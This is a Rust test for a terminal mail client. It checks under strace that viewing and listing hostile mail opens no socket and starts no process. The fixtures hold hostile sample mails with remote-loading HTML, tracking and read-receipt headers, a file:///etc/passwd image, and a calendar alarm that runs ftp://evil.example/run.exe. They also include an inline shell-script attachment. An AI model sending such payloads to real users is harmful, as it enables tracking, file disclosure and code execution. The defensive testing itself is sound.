//! Bars 12 and 13 of what must hold, seen by the system itself: who reads hostile mail opens no socket and starts no
//! program, in the reader and in the commands.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use poptui::mail::{Completeness, Envelope};
use poptui::pop3::UniqueId;
use poptui::store::{NewMail, Store, Writer};

use crate::support::hostile;
use crate::support::not_run::not_run;
use crate::support::pty::{Home, POPTUI, Pty};

/// Every way out of the process.
const CALLS: &str = "trace=execve,execveat,socket,connect,bind";

/// All that a mail can name for a program to fetch, run or answer.
fn calls_for_more() -> Vec<Vec<u8>> {
    const HEAD: &str = "From: Eve <eve@evil.example>\r\nSubject: Look here\r\nDisposition-Notification-To: eve@evil.example\r\n\
        Return-Receipt-To: eve@evil.example\r\nList-Unsubscribe: <http://127.0.0.1:9/leave>, <mailto:leave@evil.example>\r\n\
        List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nX-Image-Url: http://127.0.0.1:9/face.png\r\n";
    let html = "<html><head><link rel=stylesheet href='http://127.0.0.1:9/a.css'><link rel=dns-prefetch href='//evil.example'>\
        <meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><style>@import 'http://127.0.0.1:9/b.css';\
        p{background:url(http://127.0.0.1:9/c.png)}</style><script src='http://127.0.0.1:9/d.js'></script></head><body>\
        <p>Hello</p><img src='http://127.0.0.1:9/e.png'><img src='file:///etc/passwd'><iframe src='http://127.0.0.1:9/f'></iframe>\
        <object data='http://127.0.0.1:9/g'></object><video poster='http://127.0.0.1:9/h'></video>\
        <a href='http://127.0.0.1:9/i' ping='http://127.0.0.1:9/j'>a link</a></body></html>";
    let bodies = [
        format!("Content-Type: text/html\r\n\r\n{html}"),
        "Content-Type: message/external-body; access-type=URL; URL=\"http://127.0.0.1:9/k\"\r\n\r\nContent-Type: text/plain\r\n\r\n".to_owned(),
        "Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:x\r\n\
         DTSTART:20260303T110000Z\r\nATTACH:http://127.0.0.1:9/l\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:ftp://evil.example/run.exe\r\n\
         END:VALARM\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".to_owned(),
        "Content-Type: application/x-sh; name=\"run.sh\"\r\nContent-Disposition: inline\r\n\r\n#!/bin/sh\r\ntouch evil\r\n".to_owned(),
        "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n\r\nMIIx\r\n".to_owned(),
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\r\n\r\n--b\r\n\
         Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n--b--\r\n".to_owned(),
    ];
    bodies
        .map(|body| format!("{HEAD}{body}").into_bytes())
        .into()
}

/// The tests' own mails, and the lab's where it is at hand.
fn mails() -> Vec<Vec<u8>> {
    let mut mails = calls_for_more();
    mails.extend(hostile::mails());
    let own = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/eml");
    let paths = fs::read_dir(own)
        .unwrap()
        .map(|entry| entry.unwrap().path());
    let mut paths: Vec<PathBuf> = paths
        .filter(|path| path.extension().is_some_and(|end| end == "eml"))
        .collect();
    paths.sort();
    mails.extend(paths.iter().map(|path| fs::read(path).unwrap()));
    mails
}

fn fill(home: &Home, mails: &[Vec<u8>]) {
    let store = Store::open(&home.data()).unwrap();
    let new_mail = |(octets, number): (&Vec<u8>, i64)| {
        let mut sha256 = [0; 32];
        sha256[..8].copy_from_slice(&number.to_be_bytes());
        NewMail {
            uid: Some(UniqueId(format!("uid-{number}").into_bytes().into())),
            listed_size: Some(octets.len() as u64),
            sha256,
            envelope: Envelope {
                // One below the other, whatever their own dates say.
                date: Some(1_795_000_000 - number),
                ..Envelope::read(octets)
            },
            octets: octets.clone(),
            arrived: 1_795_000_000 - number,
            completeness: Completeness::Whole,
        }
    };
    let new: Vec<NewMail> = mails.iter().zip(1..).map(new_mail).collect();
    let add = move |writer: &mut Writer| {
        let account = writer.account("robin", "robin@example.org")?;
        writer.add(account, &new).map(drop)
    };
    store.write_now(add).unwrap();
    store.close();
    home.configure(
        "[accounts.robin]\naddress = \"robin@example.org\"\nhost = \"127.0.0.1\"\nport = 1\nsecurity = \"none\"\n\
         user = \"robin\"\npassword = \"secret\"\n",
    );
}

/// `poptui` watched by the system, in a terminal. What it called is in the file.
fn watched(home: &Home, calls: &Path, arguments: &[&str]) -> Pty {
    let mut all = vec![
        "-f",
        "--seccomp-bpf",
        "-qq",
        "-e",
        CALLS,
        "-o",
        calls.to_str().unwrap(),
        POPTUI,
    ];
    all.extend(arguments);
    let mut command = home.command("strace", &all);
    command.env("POPTUI_CONFIG", home.home().join("config.toml"));
    command.env("POPTUI_DATA_DIR", home.data());
    Pty::start(command, 80, 24)
}

/// The start of the program itself is the only call.
#[track_caller]
fn only_began(calls: &Path, what: &str) {
    let called = fs::read_to_string(calls).unwrap();
    // How strace takes leave of a thread whose call it did not see begin.
    let is_call = |line: &&str| line.contains('(') && !line.contains("???( <detached");
    let called: Vec<&str> = called.lines().filter(is_call).collect();
    let [begun] = called[..] else {
        panic!("{what}: {called:#?}");
    };
    assert!(
        begun.contains("execve(") && begun.contains(POPTUI),
        "{what}: {begun}"
    );
}

#[test]
fn reading_hostile_mail_opens_no_socket_and_starts_no_program() {
    if Command::new("strace").arg("-V").output().is_err() {
        return not_run(
            "reading hostile mail under strace, which is missing (tests/support/install brings it)",
        );
    }
    let (home, mails) = (Home::new(), mails());
    fill(&home, &mails);
    let calls = home.home().join("calls");

    // What is watched is seen: this opens a socket.
    let mut pty = watched(&home, &calls, &["fetch"]);
    assert_ne!(pty.wait(), 0);
    let called = fs::read_to_string(&calls).unwrap();
    assert!(called.contains("socket("), "{called}");

    let mut pty = watched(&home, &calls, &[]);
    let count = mails.len();
    pty.until(&[&format!("{count} unread of {count}")]);
    for number in 1..=count {
        pty.press(if number == 1 { "gg\r" } else { "J" });
        pty.until(&[&format!("{number}/{count}")]);
        // All headers, as it came, its parts, where it comes from, its other text.
        for (keys, title) in [("HHzrzrv", "Parts of this mail"), ("i", "Why is this here")] {
            pty.press(keys);
            pty.until(&[title]);
            pty.press("\x03");
            pty.until_that("the mail", |seen| !seen.text().contains(title));
        }
        pty.press("zh");
    }
    pty.press("Q");
    assert_eq!(pty.wait(), 0);
    only_began(&calls, "the reader");

    let ids: Vec<String> = (1..=count).map(|id| id.to_string()).collect();
    let read = |first: &[&'static str]| {
        let mut arguments = first.to_vec();
        arguments.extend(ids.iter().map(String::as_str));
        arguments
    };
    let commands = [
        vec!["list", "in:any"],
        vec!["list", "--json", "in:any"],
        read(&["read"]),
        read(&["read", "--json"]),
    ];
    for arguments in commands {
        let mut pty = watched(&home, &calls, &arguments);
        assert_eq!(pty.wait(), 0, "{:?}", &arguments[..2]);
        only_began(&calls, &arguments[..2].join(" "));
    }
}
